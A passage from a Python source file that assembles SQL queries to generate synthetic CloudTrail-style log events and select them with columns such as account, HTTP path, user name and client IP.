  ':assumed-role/' || ro.role || '/' || uname || '","accountId":"' || ea.account_id || '"}},' ||
  CASE WHEN t.error <> '' THEN '"errorCode":"' || t.error || '",' ELSE '' END ||
  '"recipientAccountId":"' || ea.account_id || '","eventID":"' || substr(md5(CAST(n1 AS VARCHAR) || CAST(rn AS
  VARCHAR)), 1, 32) || '"}}'
FROM e JOIN trail t USING (code) JOIN eaccts ea ON ea.acct = e.acct JOIN regions r ON r.region = e.region
  JOIN roles ro ON ro.i = e.n2 % {len(TRAIL_ROLES)}
WHERE cat = {CAT_TRAIL}
"""  # noqa: S608


def events_sql() -> str:
    cols = ("event_time, index_name, sourcetype, source, host, account_id, severity, http_method, http_path, "
            "http_status, bytes, duration_ms, user_name, client_ip, message")
    return f"SELECT {cols} FROM ({EVENTS_SQL}) x ORDER BY rn"  # noqa: S608

